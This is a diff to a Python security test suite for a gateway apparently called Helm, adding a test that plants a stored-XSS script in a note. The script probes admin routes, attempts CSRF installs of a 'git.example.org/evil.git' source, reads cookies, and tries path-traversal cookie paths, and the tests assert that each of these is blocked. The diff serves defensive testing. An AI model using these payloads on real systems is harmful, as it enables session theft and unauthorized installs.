@@ -11,12 +11,15 @@ from typing import Any
 import pytest
 
 from helmd.model.identity.realm import PROBE_USER
-from tests.system.booted import Sandbox, until
+from tests.system.booted import Sandbox, superuser, until
 from tests.system.browser import Browser, browser_in
-from tests.system.keycloak_admin import CONFIG, GATEWAY, Person, ask, log_in, person
+from tests.system.keycloak_admin import CONFIG, GATEWAY, Person, ask, log_in, person, session_of_owner
 from tests.system.test_peer_policy import changing, checked
 
 HOME = f"{GATEWAY}/helm/"
+DIRECT = "http://localhost:5004/helm/"
+MODULE = "http://localhost:5010"
+"""Codex at its own port."""
 LEARNED = "/home/hive/.local/state/hivematrix/gateway-page.json"
 PASSWORD = f"{CONFIG}/secrets/page-probe.password"
 KNOWN = "ok: 4 scripts that the gateway adds may run on Helm's pages (learned "
@@ -32,6 +35,67 @@ port = {PLANTED_PORT}
 environment = {{ PORT = "{PLANTED_PORT}" }}
 """
 
+
+ATTACK = """
+(async () => {
+  const [routes, own, direct] = GIVEN;
+  const found = {};
+  const attempt = async (name, what) => {
+    try { found[name] = await what(); } catch (error) { found[name] = error.name; }
+  };
+  const json = { "Content-Type": "application/json" };
+  const body = JSON.stringify({ source: "https://git.example.org/evil.git", reason: "" });
+  const framed = async (url) => {
+    const frame = document.createElement("iframe");
+    const loaded = new Promise((resolve) => { frame.onload = resolve; });
+    frame.src = url;
+    document.body.append(frame);
+    await loaded;
+    return frame.contentDocument ? frame.contentDocument.body.innerText : "blocked";
+  };
+  await attempt("me", async () => (await (await fetch(own + "api/me")).json()).role);
+  found.routes = {};
+  for (const [method, path] of routes) {
+    const answer = await fetch(own + path.slice(1), { method, headers: json, body });
+    found.routes[`${method} ${path}`] = [answer.status, (await answer.json()).code];
+  }
+  await attempt("page", async () => {
+    const page = new DOMParser().parseFromString(await (await fetch(own + "modules")).text(), "text/html");
+    return [page.title, page.querySelectorAll("form, input[type=hidden], [name*=csrf], [name*=token]").length];
+  });
+  await attempt("offered", async () => {
+    const page = new DOMParser().parseFromString(await (await fetch(own + "modules")).text(), "text/html");
+    return page.querySelectorAll(":is([data-install], [data-check], [data-change]):enabled").length;
+  });
+  await attempt("frame", () => framed(own + "modules"));
+  await attempt("frame of another page", () => framed(own + "users"));
+  await attempt("direct frame", () => framed(direct + "modules"));
+  const change = { method: "POST", credentials: "include", body };
+  const install = direct + "api/modules/install";
+  await attempt("direct page", async () => (await fetch(direct + "modules", { credentials: "include" })).status);
+  await attempt("direct change", async () =>
+    (await fetch(install, { ...change, headers: json })).status);
+  await attempt("direct change unseen", async () =>
+    (await fetch(install, { ...change, mode: "no-cors" })).type);
+  await attempt("direct socket", () => new Promise((resolve) => {
+    const made = new WebSocket(direct.replace("http", "ws") + "api/logs/ws");
+    made.onopen = () => resolve("open");
+    made.onerror = () => resolve("refused");
+  }));
+  await attempt("form", () => new Promise((resolve) => {
+    const frame = Object.assign(document.createElement("iframe"), { name: "aim" });
+    const facts = { method: "POST", enctype: "text/plain", target: "aim", action: install };
+    const form = Object.assign(document.createElement("form"), facts);
+    form.append(Object.assign(document.createElement("input"), { name: body.slice(0, -2), value: '"}' }));
+    document.body.append(frame, form);
+    frame.onload = () => resolve(frame.contentDocument ? frame.contentDocument.URL : "sent");
+    form.submit();
+  }));
+  found.cookie = document.cookie;
+  document.documentElement.dataset.found = JSON.stringify(found);
+})()
+"""
+"""What a script in a page of a module tries, which has the same origin as Helm behind the gateway."""
 
 IN_ITS_PLACE = f"""
 import os, sys
@@ -141,6 +205,76 @@ def test_what_the_gateway_adds_works_and_what_modules_add_does_not(demo: Sandbox
         assert any("Content Security Policy" in each or "Trusted" in each for each in complaints(browser))
 
 
+def cookies_that_came(browser: Browser, url: str) -> dict[str, str]:
+    """What Codex has got of the browser's cookies, which it answers with at paths that end in "cookies"."""
+    browser.get(url)
+    found: dict[str, str] = json.loads(browser.text("body"))["cookies"]
+    return found
+
+
+def test_a_module_gets_no_cookie_of_helms_and_its_scripts_install_nothing(demo: Sandbox, browser: Browser) -> None:
+    """With an admin in the browser who has just logged in at Helm itself as well. The script is in a client's note."""
+    routes = [(method, path) for method, path, recent_login in changing() if recent_login]
+    given = json.dumps([routes, "/helm/", DIRECT])
+    script = " ".join(ATTACK.replace("GIVEN", given).split())
+    with person(demo, "client") as eve, person(demo, "admins") as who:
+        token = f"Authorization: Bearer {log_in(demo, eve).token}"
+        note = ask(
+            demo, f"{GATEWAY}/codex/api/notes", "POST", body={"body": f"<script>{script}</script>"}, headers=(token,)
+        )
+        assert note.code == 201, note
+        try:
+            browser.forget()
+            browser.get(DIRECT)
+            browser.until_there("#kc-login")
+            begun = cookies_that_came(browser, f"{MODULE}/helm/login/callback/cookies")
+            assert {name.partition("_")[0] for name in begun} >= {"helm"}, "of the login that was begun"
+            browser.get(DIRECT)
+            browser.until_there("#kc-login")
+            browser.type("#username", who.name)
+            browser.type("#password", who.password)
+            browser.click("#kc-login")
+            browser.until_there(".helm-services")
+            browser.get(f"{GATEWAY}/codex/")
+            browser.until_there("html[data-found]", 60)
+            found = json.loads(browser.run("return document.documentElement.dataset.found"))
+            assert found.pop("routes") == {f"{method} {path}": [403, "login_needed"] for method, path in routes}
+            assert found == {
+                "me": "admin",
+                "page": ["Modules · Helm", 0],
+                "offered": 0,
+                "frame": "blocked",
+                "frame of another page": "blocked",
+                "direct frame": "blocked",
+                "direct page": "TypeError",
+                "direct change": "TypeError",
+                "direct change unseen": "TypeError",
+                "direct socket": "refused",
+                "form": "sent",
+                "cookie": "",
+            }
+            # No path of the gateway that leads to a module is one for which the browser has a cookie of Helm's.
+            for path in ("cookies", "helm/cookies", "..%2fhelm/cookies", "%2e%2e/helm/cookies"):
+                browser.get(f"{GATEWAY}/codex/{path}")
+                assert "helm_" not in browser.text("body"), path
+            assert "session" in cookies_that_came(browser, f"{GATEWAY}/codex/cookies")
+            assert not any(name.startswith("helm") for name in cookies_that_came(browser, f"{MODULE}/cookies"))
+            # But cookies know no ports (RFC 6265, section 8.5): the next test shows what that one is good for. Pages
+            # of a module's own port are of the same site, so requests that they make have it, too.
+            stolen = cookies_that_came(browser, f"{MODULE}/helm/cookies")
+            assert "helm_session" in stolen
+            sent = "fetch(arguments[0], {method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}'})"
+            browser.run(f"return {sent}.then(() => 1, () => 1)", f"{DIRECT}api/modules/install")
+        finally:
+            superuser(demo, f"DELETE FROM notes WHERE id = {note.json()['id']}", "codex_db")
+        audit = json.loads(demo.helmctl("audit", "--json", "-n", "200").out)
+        mine = [each for each in audit if each["who"] == who.name]
+        assert len(mine) >= len(routes) and {each["result"] for each in mine} == {"refused"}
+    tried = [each for each in audit if each["action"] == "POST /api/modules/install"][-3:]
+    assert [each["detail"].partition(":")[0] for each in tried] == ["no_credential", "no_credential", "denied"]
+    assert "git.example.org" not in demo.helmctl("jobs", "list", "--json").out
+
+
 def theme_of(driver: Any) -> str:
     return str(driver.execute_script("return document.documentElement.dataset.theme"))
 
@@ -201,9 +335,16 @@ def test_a_module_with_an_admins_cookies_can_do_what_an_admin_may_do_there_and_n
         passed = {name: answer for name, answer in found.items() if name not in kept | {"POST /api/login-links"}}
         assert passed and not {name for name, (status, _) in passed.items() if status in (0, 401, 403)}, passed
         assert found["POST /api/services/nosuch/stop"] == (404, "unknown_service")
-        # The same cookie at helmd itself, as the module would use it directly.
-        direct = ask(box, "http://localhost:5004/helm/api/services/status", headers=(f"Cookie: {cookie}",))
+        # The same cookie at helmd itself, as the module would use it directly; and that of a session of Helm's own.
+        direct = ask(box, f"{DIRECT}api/services/status", headers=(f"Cookie: {cookie}",))
         assert direct.code == 401
+        own = session_of_owner(box)
+        read = [("GET", "/api/services/status"), ("GET", "/api/logs"), ("GET", "/")]
+        paths = [*read, *((method, path) for method, path, _ in routes)]
+        work["requests"] = [{"url": f"{DIRECT}{path[1:]}", "method": method, "cookie": own} for method, path in paths]
+        direct_answers = checked(json.loads(box(*sent, stdin=json.dumps(work)).out))["plainly"]
+        assert direct_answers == [[403, "peer_refused"]] * len(paths)
+        assert ask(box, f"{DIRECT}api/logs", headers=(f"Cookie: {own}",)).code == 200
         audit = json.loads(box.helmctl("audit", "--json", "-n", "200").out)
         mine = [each for each in audit if each["who"] == who.name]
         assert {each["unit"] for each in mine} == {"hivematrix-nexus.service"}
